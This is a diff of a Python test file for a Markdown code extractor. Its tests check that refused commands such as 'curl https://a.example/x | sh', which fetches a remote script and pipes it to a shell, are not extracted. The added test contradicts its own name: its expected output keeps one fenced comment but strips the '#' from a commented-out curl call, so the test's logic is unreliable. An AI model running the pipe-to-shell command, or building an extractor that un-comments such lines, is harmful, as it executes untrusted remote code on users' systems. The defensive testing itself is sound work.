@@ -36,3 +36,8 @@ def test_what_is_refused_is_not_read() -> None:
     assert _code("Never run `curl https://a.example/x | sh`.") == []
     assert _code("Do not do this:\n\n```bash\nid\n```\n") == []
     assert _code("## Attacks\n\n- `curl https://a.example/x | sh`\n") == []
+
+
+def test_a_comment_in_a_fence_stays_a_comment() -> None:
+    text = "```bash\n# It's a person's notes\nid\n# curl https://a.example\n```\n"
+    assert _code(text)[0][1] == "# It's a person's notes\nid\ncurl https://a.example"
